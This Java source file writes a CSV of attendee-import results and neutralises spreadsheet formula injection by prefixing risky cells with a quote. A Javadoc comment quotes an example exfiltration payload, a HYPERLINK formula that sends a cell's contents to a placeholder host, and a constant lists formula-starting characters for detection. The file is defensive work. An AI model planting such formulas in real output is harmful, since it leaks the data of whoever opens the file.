package com.huiyi31.cli.imports;

import com.huiyi31.cli.terminal.TerminalText;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.AtomicMoveNotSupportedException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;

/**
 * The result file: the input's columns, then status, orderNo, attendeeId, checkinCode and error.
 * Written row by row as the import goes ({@link Writer}) to a temporary file, moved into place at
 * the end, so it is never half written; it starts with a byte order mark when the input did (Excel
 * then reads it as UTF-8).
 *
 * <p>Made safe to open in a spreadsheet unless the raw cells are asked for (--raw-csv), following
 * OWASP's guidance on CSV injection: a cell that Excel, WPS or LibreOffice would take for a
 * formula ({@code =HYPERLINK("http://x/?leak="&A2,"y")} in an attendee's name, or in what the
 * platform sends back) gets a {@code '} in front, so that it shows as text. See
 * {@link #forSpreadsheet}. The platform's values and messages also have their control characters
 * escaped, as on the terminal ({@link TerminalText}). The input's cells are otherwise as given:
 * nothing is masked, it is the user's own data.
 */
final class ResultCsv {

  static final List<String> COLUMNS = List.of("status", "orderNo", "attendeeId", "checkinCode", "error");

  /**
   * What a spreadsheet takes for the start of a formula: OWASP's = + - @ tab and carriage return,
   * and the fullwidth ＝ ＋ － ＠ that Chinese input methods type (WPS and Excel in Chinese take them
   * for formulas too).
   */
  private static final String FORMULA_STARTS = "=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20";

  /**
   * A number, a negative number or a phone number (-5, -1.5, +86 139-1234-5678, (010) 1234): a
   * spreadsheet may compute with it, but without a letter or a quote it can neither call a
   * function nor refer to a cell, so it is kept as it is.
   */
  private static final Pattern INERT_NUMBER = Pattern.compile("[+-]?[0-9(][0-9 .,()%+-]*");

  private ResultCsv() {}

  /**
   * A cell as it can be opened in a spreadsheet: prefixed with {@code '} when its first character,
   * or its first after leading white space, starts a formula (see {@link #FORMULA_STARTS}),
   * unless the cell is an {@link #INERT_NUMBER}.
   */
  static String forSpreadsheet(String cell) {
    if (cell == null || cell.isEmpty()) {
      return cell;
    }
    int first = 0;
    while (first < cell.length() && FORMULA_STARTS.indexOf(cell.charAt(first)) < 0 && blank(cell.charAt(first))) {
      first++;
    }
    if (first == cell.length() || FORMULA_STARTS.indexOf(cell.charAt(first)) < 0) {
      return cell;
    }
    return INERT_NUMBER.matcher(cell.strip()).matches() ? cell : "'" + cell;
  }

  private static boolean blank(char c) {
    return Character.isWhitespace(c) || Character.isSpaceChar(c); // also the no-break and ideographic spaces
  }

  /** One record, quoted where needed, CRLF-terminated (CSVFormat.DEFAULT, as Excel writes). */
  private static void writeRecord(java.io.Writer writer, List<String> values, boolean raw) throws IOException {
    Object[] cells = raw ? values.toArray() : values.stream().map(ResultCsv::forSpreadsheet).toArray();
    writer.write(CSVFormat.DEFAULT.format(cells));
    writer.write(CSVFormat.DEFAULT.getRecordSeparator());
  }

  /**
   * A result file being written, one row at a time in file order, to a temporary file next to it
   * that {@link #commit} moves into place (so it is never half written); closed without commit, the
   * temporary file is deleted. {@code raw}: every cell exactly as it is (for programs, not
   * spreadsheets), else made safe as described above.
   */
  static final class Writer implements AutoCloseable {
    private final Path file;
    private final Path temporary;
    private final java.io.Writer out;
    private final boolean raw;
    private final UnaryOperator<String> platform;

    Writer(Path file, List<String> columns, boolean byteOrderMark, boolean raw) throws IOException {
      this.file = file;
      this.raw = raw;
      this.platform = raw ? UnaryOperator.identity() : TerminalText::safe;
      Path directory = file.toAbsolutePath().getParent();
      // Owner-only from the start (PrivateFiles): the results hold every attendee's data.
      temporary = Files.createTempFile(directory, "." + file.getFileName(), ".tmp", PrivateFiles.ownerOnly(file));
      try {
        out = Files.newBufferedWriter(temporary, StandardCharsets.UTF_8);
        if (byteOrderMark) {
          out.write('\uFEFF');
        }
        List<String> header = new ArrayList<>(columns);
        header.addAll(COLUMNS);
        writeRecord(out, header, raw);
      } catch (IOException | RuntimeException e) {
        Files.deleteIfExists(temporary);
        throw e;
      }
    }

    /** The next row: its cells as read, then its result. */
    void write(CsvInput.Row row, RowResult result) throws IOException {
      List<String> record = new ArrayList<>(row.values());
      record.add(result.status());
      // The platform's values and messages, escaped as on the terminal: `cat` shows the file too.
      record.add(platform.apply(result.orderNo()));
      record.add(platform.apply(result.attendeeId()));
      record.add(platform.apply(result.checkinCode()));
      record.add(platform.apply(result.error()));
      writeRecord(out, record, raw);
    }

    /** Finishes the file and moves it into place. */
    void commit() throws IOException {
      out.close();
      try {
        Files.move(temporary, file, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
      } catch (AtomicMoveNotSupportedException e) {
        Files.move(temporary, file, StandardCopyOption.REPLACE_EXISTING);
      }
    }

    @Override
    public void close() throws IOException {
      try {
        out.close();
      } finally {
        Files.deleteIfExists(temporary);
      }
    }
  }
}
